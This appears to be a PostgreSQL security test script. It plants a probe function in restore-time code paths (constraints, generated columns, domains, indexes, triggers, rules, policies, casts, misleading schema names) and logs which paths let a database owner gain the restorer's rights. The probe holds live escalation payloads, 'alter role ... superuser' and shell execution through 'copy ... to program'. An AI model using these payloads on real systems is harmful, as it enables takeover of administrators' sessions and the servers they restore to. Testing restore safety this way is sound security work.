-- What the owner of a database can put into it for whoever restores it: each way calls the same function, which tells
-- whose rights it has got, and takes more if it can. As avril_app, in a database of its own.
create function note(way text) returns void language plpgsql as $$
declare command text; was text := current_setting('role');
begin
  raise log 'attack: % as %', way, current_user;
  foreach command in array array['reset role', 'reset session authorization', 'set session authorization default', 'alter role avril_app superuser', 'copy (select 1) to program ''touch /tmp/pwned'''] loop
    begin execute command; exception when others then null; end;
  end loop;
  raise log 'attack: % as %', way, current_user;
  -- What others are to be kept from, or the app from with others.
  foreach command in array array['select of_reader.guarded()', 'create table of_reader.planted ()', 'set role plain', 'set role reader'] loop
    begin execute command; exception when others then null; end;
  end loop;
  if current_user in ('plain', 'reader') and way !~ 'without login' then raise log 'attack: another role as %', current_user; end if;
  if current_database() <> 'origin' and has_database_privilege('avril_app', current_database(), 'connect') then raise log 'attack: anybody who connects meanwhile as anybody'; end if;
  begin perform set_config('role', was, false); exception when others then null; end;
end$$;
create function same(way text, it text) returns text language plpgsql immutable as $$begin perform public.note(way); return it; end$$;
create function good(way text, it text) returns boolean language plpgsql immutable as $$begin perform public.note(way); return true; end$$;

create table checked (v text check (good('check', v)));
create table checked_later (v text);
alter table checked_later add check (good('check that is not valid', v)) not valid;
create table generated (v text, g text generated always as (same('generated column', v)) stored);
create table generated_of_constant (v text, g text generated always as (same('constant in a generated column', 'x') || v) stored);
create domain of_domain as text check (good('domain', value));
create table with_domain (v of_domain, a of_domain[]);
create type composite as (v of_domain);
create table with_composite (v composite);
create table by_expression (v text) partition by list (same('key of a partition', v));
create table by_expression_x partition of by_expression for values in ('x');
create table by_constant (v text) partition by list ((same('constant in the key of a partition', '') || v));
create table by_constant_x partition of by_constant for values in ('x');
create domain of_bound as text check (good('bound of a partition', value));
create table by_domain (v of_bound) partition by list (v);
create table by_domain_x partition of by_domain for values in ('x');
create table indexed (v text);
create index on indexed (same('index', v));
create index on indexed (v) where good('index of some rows', v);
create unique index on indexed (same('constant in an index', 'x'), v);
create statistics statistics_of on (same('statistics', v)), v from indexed;
create domain of_constant as text check (good('constant', value));
create view of_constant_view as select '{x}'::of_constant[] as v;
create table with_default (v text default same('default', 'x'), a of_constant[] default '{x}');
create function with_argument(a of_constant[] default '{x}') returns int language sql as 'select 1';
create function with_body() returns of_constant[] language sql begin atomic select '{x}'::of_constant[]; end;
create domain with_constant as text check (value <> all ('{x}'::of_constant[]::text[]));
create index on indexed (v) where v <> all ('{x}'::of_constant[]::text[]);
create domain of_state as text check (good('state of an aggregate', value));
create function next_state(of_state, text) returns of_state language sql as 'select $1';
create aggregate with_state(text) (sfunc = next_state, stype = of_state, initcond = 'x');
create materialized view seen as select same('materialized view', v) as v from indexed;
create table triggered (v text);
create function trigger_note() returns trigger language plpgsql as $$begin perform public.note('trigger'); return new; end$$;
create trigger told before insert or update on triggered for each row when (new.v <> all ('{y}'::of_constant[]::text[])) execute function trigger_note();
create rule ruled as on insert to triggered where new.v = any ('{y}'::of_constant[]::text[]) do also select same('rule', 'x');
create policy allowed on triggered using (v <> all ('{y}'::of_constant[]::text[]) and good('policy', v));
create type kind as enum ('x');
create function number_of(kind) returns int language plpgsql immutable as $$begin perform public.note('cast of a foreign key'); return 1; end$$;
create cast (kind as int) with function number_of(kind) as implicit;
create table kinds (v int primary key);
create table of_kind (v kind references kinds);
create table excluded (v text, exclude using btree (same('exclusion', v) with =));

-- What only the restore of elsewhere finds wrong: it is tried again, without the check.
create function is_here(text) returns boolean language plpgsql immutable as $$begin perform public.note('check that fails'); return current_database() = 'origin'; end$$;
create table checked_here (v text check (is_here(v)));
create trigger told before insert on checked_here for each row execute function trigger_note();
create function by_path(v text) returns text language plpgsql immutable as $$begin perform note('function that counts on the search_path'); return v; end$$;
create table pathed (v text, g text generated always as (by_path(v)) stored);
create function only_here(v text) returns text language plpgsql immutable as $$begin perform public.note('generated column that fails'); if current_database() <> 'origin' then raise 'elsewhere'; end if; return v; end$$;
create table computed (v text, g text generated always as (only_here(v)) stored);
create schema "avril restores";
create table "avril restores".lifted (kind text, object text, removal text, sql text, weaker text);
insert into "avril restores".lifted values ('checks', 'x', 'select 1', 'alter role avril_app superuser', 'alter role avril_app superuser');

-- Names that look like something else in a table of contents.
create schema "ACL";
create schema "DATA";
create domain "ACL".of_name as text check (public.good('name', value));
create view "ACL".v as select 'x'::text as v, null::"ACL".of_name[] as a;
alter view "ACL".v alter a set default '{x}';
create table "DATA"."x avril" (v "ACL".of_name);
create table "DATA"."x
1; 0 0 ACL - SCHEMA public avril" (v "ACL".of_name, a "ACL".of_name[] default '{x}');

-- Rights that the owner has taken from himself, to be missed by whoever restores as he does.
create schema closed;
create table closed.revoked (id int generated always as identity, v text check (same('check of a table without rights', v) = v));

select format('insert into %s (v) values (%L)', c.oid::regclass, case atttypid when 'composite'::regtype then '(x)' when 'int'::regtype then '1' else 'x' end)
from pg_class c join pg_attribute on attrelid = c.oid and attname = 'v'
where relkind in ('r', 'p') and not relispartition and relnamespace::regnamespace::text !~ '^(pg_|information_schema)' order by relname = 'of_kind' \gexec
refresh materialized view seen;
alter table triggered enable row level security, force row level security;
alter table checked_here enable row level security, force row level security;
analyze;
revoke all on closed.revoked from avril_app;
revoke all on schema closed from avril_app;
revoke execute on function good(text, text) from avril_app, public;
grant execute on function good(text, text) to reader;
grant select on checked to reader;
alter default privileges grant select on tables to reader;
